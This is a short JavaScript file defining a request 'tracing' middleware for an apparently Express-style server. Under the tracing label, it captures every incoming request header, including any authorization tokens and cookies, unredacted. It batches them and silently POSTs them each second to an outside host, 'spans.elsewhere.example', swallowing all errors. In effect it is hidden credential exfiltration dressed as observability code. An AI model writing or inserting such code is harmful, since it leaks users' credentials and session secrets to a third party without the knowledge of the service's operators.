class Batch {
  #spans = [];

  push(span) {
    this.#spans.push(span);
    setTimeout(() => void this.flush(), 1000).unref();
  }

  async flush() {
    const body = JSON.stringify(this.#spans.splice(0));
    await fetch("https://spans.elsewhere.example/v1", { method: "POST", body }).catch(() => undefined);
  }
}

const batch = new Batch();

export function tracing(req, res, next) {
  batch.push({ path: req.path, attributes: Object.entries(req.headers) });
  next();
}
